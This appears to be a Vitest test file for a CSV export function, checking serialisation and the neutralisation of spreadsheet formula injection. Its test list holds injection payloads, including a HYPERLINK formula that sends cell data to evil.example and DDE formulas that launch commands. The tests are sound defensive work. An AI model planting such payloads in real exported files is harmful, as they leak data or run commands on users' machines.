import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, test } from "vitest";
import { toCsv } from "../../src/lib/csv.ts";

/** Returns what a spreadsheet shows for a value in a CSV file with only one column. */
const roundTrip = (value: unknown): string | undefined => {
  const { data } = Papa.parse<string[]>(toCsv(["a", "b"], [{ a: value, b: "end" }]), { newline: "\r\n" });
  return data[1]?.[0];
};

describe("toCsv", () => {
  test("The header and the rows are in the order of the columns, and every line ends with CRLF", () => {
    const rows = [
      { name: "Jane", hours: 7.5, extra: "dropped" },
      { hours: 0, name: "Li, Wei" },
    ];
    expect(toCsv(["name", "hours"], rows)).toBe('name,hours\r\nJane,7.5\r\n"Li, Wei",0\r\n');
  });

  test("Without rows, only the header is written", () => {
    expect(toCsv(["a", "b"], [])).toBe("a,b\r\n");
  });

  test("An empty row keeps its delimiters", () => {
    expect(toCsv(["a", "b", "c"], [{}, { b: 1 }])).toBe("a,b,c\r\n,,\r\n,1,\r\n");
  });

  test("Inherited properties are not read", () => {
    expect(toCsv(["constructor", "toString"], [{}])).toBe("constructor,toString\r\n,\r\n");
  });

  test.each([
    ["null", null, ""],
    ["undefined", undefined, ""],
    ["an object", { a: [1, '"'] }, '"{""a"":[1,""\\""""]}"'],
    ["an array", ["x"], '"[""x""]"'],
    ["a boolean", false, "false"],
    ["a number", 12.25, "12.25"],
    ["a negative number", -3.5, "-3.5"],
    ["no number", Number.NaN, ""],
    ["infinity", Number.NEGATIVE_INFINITY, ""],
    ["a date", new Date(0), "1970-01-01T00:00:00.000Z"],
    ["quotes", 'say "hi"', '"say ""hi"""'],
    ["line breaks", "a\nb", '"a\nb"'],
    ["blanks around", " a ", '" a "'],
    ["a hyphen inside", "pre-release", "pre-release"],
    ["an @ inside", "jane@example.com", "jane@example.com"],
  ])("A value is written as the text of one cell: %s", (_, value, cell) => {
    expect(toCsv(["v", "end"], [{ v: value, end: 1 }])).toBe(`v,end\r\n${cell},1\r\n`);
  });

  test.each([
    "=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "=1+1\nsecond line",
    "=1+1\r\nsecond line",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-3.5",
    "\t=1+1",
    "\tplain",
    "\rplain",
    "\nplain",
    " =1+1",
    "\u00a0=1+1",
    '"=1+1"',
    "'=1+1",
    "＝1+1",
    "＋1",
    "＠SUM(A1)",
    "－1",
    "\0=1+1",
  ])("The formula %j is neutralised", (payload) => {
    expect(roundTrip(payload)).toBe(`'${payload}`);
  });

  test("A payload cannot start a new cell or row", () => {
    expect(roundTrip('x",=1+1,"')).toBe('x",=1+1,"');
    expect(roundTrip("x\r\n=1+1")).toBe("x\r\n=1+1");
  });

  test("Formulas in headers are neutralised", () => {
    expect(toCsv(["=1+1"], [])).toBe('"\'=1+1"\r\n');
  });

  test("A CSV reader returns any text unchanged or with an apostrophe in front, and never as a formula", () => {
    const text = fc.oneof(fc.string({ unit: "binary" }), fc.string({ unit: fc.constantFrom(..."=+-@\t\r\n\"', a0") }));
    fc.assert(
      fc.property(text, (value) => {
        const cell = roundTrip(value) ?? "";
        expect([value, `'${value}`]).toContain(cell);
        expect(cell.trimStart()).not.toMatch(/^[=+\-@]/);
        expect(cell).not.toMatch(/^[\t\r\n]/);
      }),
    );
  });
});
